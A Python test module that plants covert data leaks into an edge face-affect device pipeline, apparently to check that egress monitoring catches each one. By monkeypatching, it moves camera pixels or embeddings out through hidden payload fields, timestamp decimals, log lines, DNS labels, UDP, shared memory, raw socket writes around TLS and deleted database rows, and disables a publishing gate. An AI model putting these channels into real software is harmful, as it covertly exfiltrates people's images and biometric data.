"""Leaks that are planted into the device's process, one a run: started in place of the launcher, never imported.

Each takes real pixels or a real embedding out of the running pipeline and tries one way out of the process.
"""

from __future__ import annotations

import base64
import logging
import mmap
import os
import runpy
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import cv2
import msgspec
import numpy as np

import edge.device
from edge.affect.backbone import Backbone
from edge.publish.gate import Gate, GateError
from edge.publish.outbox import Outbox
from edge.publish.session import Message, Session

SHARED = Path("/dev/shm/affect-edge-planted-leak")


def at_first_frame(leak: Callable[[Any], None]) -> None:
    """Calls a leak with the pixels of the first frame, uint8 (H, W, 3)."""
    done: list[bool] = []
    look = edge.device.Device.look

    def leaking(device: Any, frame: Any, plan: Any) -> Any:
        if not done:
            done.append(True)
            leak(frame.pixels)
        return look(device, frame, plan)

    edge.device.Device.look = leaking


def jpeg(pixels: Any) -> bytes:
    return cv2.imencode(".jpg", cv2.resize(pixels, (64, 48)))[1].tobytes()


def crop_to_file() -> None:
    align = edge.device.align_face

    def leaking(*values: Any) -> Any:
        crop = align(*values)
        Path("crop.raw").write_bytes(crop.tobytes())
        return crop

    edge.device.align_face = leaking


def embedding_to_file() -> None:
    embed_all = Backbone.embed_all

    def leaking(self: Any, crops: Any) -> Any:
        embeddings = embed_all(self, crops)
        if embeddings:
            np.save("embedding.npy", embeddings[0].vector)
        return embeddings

    Backbone.embed_all = leaking


def _past_the_gate(change: Callable[[dict[str, Any]], Any]) -> None:
    """Sends each window as a leak changes it; the gate stops nothing but what it is tried with at the start."""
    send = Session.send

    def blind(_gate: Any, _topic: str, payload: bytes) -> None:
        if b"planted" in payload:
            raise GateError("planted")

    def leaking(session: Any, message: Message) -> int:
        if message.topic.endswith("/window"):
            changed = change(msgspec.json.decode(message.payload))
            message = message._replace(payload=changed if isinstance(changed, bytes) else msgspec.json.encode(changed))
        return send(session, message)

    Gate.check, Session.send = blind, leaking


def embedding_in_payload() -> None:
    """As an extra field."""
    vectors: list[list[float]] = []
    embed_all = Backbone.embed_all

    def embedding(self: Any, crops: Any) -> Any:
        found = embed_all(self, crops)
        vectors.extend(each.vector[:16].tolist() for each in found)
        return found

    Backbone.embed_all = embedding
    _past_the_gate(lambda window: window | {"embedding": vectors[-1]})


def jpeg_over_mqtt() -> None:
    """As a message's payload."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    _past_the_gate(lambda _window: pictures[0])


def thumbnail_in_model_name() -> None:
    """Four by four grey pixels as the 32 characters that a model's name may have."""
    names: list[str] = []
    at_first_frame(lambda pixels: names.append(cv2.resize(pixels[..., 1], (4, 4)).tobytes().hex()))
    _past_the_gate(lambda window: window | {"model": window["model"] | {"name": names[0]}})


def pixels_in_decimals() -> None:
    """A pixel in the decimals behind the rounding."""
    pixels: list[int] = []
    at_first_frame(lambda frame: pixels.append(int(frame[100, 100, 0])))
    _past_the_gate(lambda window: window | {"observed_s": window["observed_s"] + pixels[0] * 1e-6})


def pixels_in_log() -> None:
    """In the place of a text of a line that the device has."""

    def leak(pixels: Any) -> None:
        text = base64.b64encode(jpeg(pixels)).decode()
        logging.getLogger("edge.publish.connection_log").info("%s: connected", text)

    at_first_frame(leak)


def picture_to_stdout() -> None:
    at_first_frame(lambda pixels: os.write(1, jpeg(pixels)))


def dns_label() -> None:
    """A question for a name whose first label is pixels."""

    def leak(pixels: Any) -> None:
        label = pixels[:1, :5].tobytes().hex()[:60].encode()
        name = b"".join(bytes([len(part)]) + part for part in (label, b"example", b"org")) + b"\0"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", ("127.0.0.1", 53))

    at_first_frame(leak)


def udp_packet() -> None:
    def leak(pixels: Any) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(jpeg(pixels), ("127.0.0.1", 9))

    at_first_frame(leak)


def shared_memory() -> None:
    """Written through a mapping: no system call ever has the bytes."""

    def leak(pixels: Any) -> None:
        data = pixels.tobytes()
        with SHARED.open("w+b") as file:
            os.ftruncate(file.fileno(), len(data))
            with mmap.mmap(file.fileno(), len(data)) as memory:
                memory[:] = data

    at_first_frame(leak)


def _after_first_send(leak: Callable[[Any, bytes], None]) -> None:
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    send = Session.send

    def leaking(session: Any, message: Message) -> int:
        number = send(session, message)
        if pictures:
            leak(session._client.socket(), pictures.pop())
        return number

    Session.send = leaking


def extra_bytes_above_tls() -> None:
    """Encrypted, but no MQTT packet."""
    _after_first_send(lambda connection, data: connection.send(data))


def extra_bytes_below_tls() -> None:
    """On the same connection, but not encrypted by it."""
    _after_first_send(lambda connection, data: os.write(connection.fileno(), data))


def row_in_outbox() -> None:
    """Written and deleted again: the final database does not show it."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    keep = Outbox.keep

    def leaking(outbox: Any, *values: Any) -> Any:
        sqlite = outbox._file._sqlite
        sqlite.execute("INSERT INTO windows (key, message, digest) VALUES (?, ?, ?)", (10**9, pictures[0], 0))
        sqlite.execute("DELETE FROM windows WHERE key = ?", (10**9,))
        return keep(outbox, *values)

    Outbox.keep = leaking


def child_process() -> None:
    def leak(pixels: Any) -> None:
        subprocess.run(["/bin/true", pixels[:1, :8].tobytes().hex()], check=False)

    at_first_frame(leak)


if __name__ == "__main__":
    {name: leak for name, leak in globals().items() if callable(leak)}[os.environ["EGRESS_LEAK"]]()
    runpy.run_path(os.environ["EGRESS_LAUNCHER"], run_name="__main__")
    sys.exit(0)
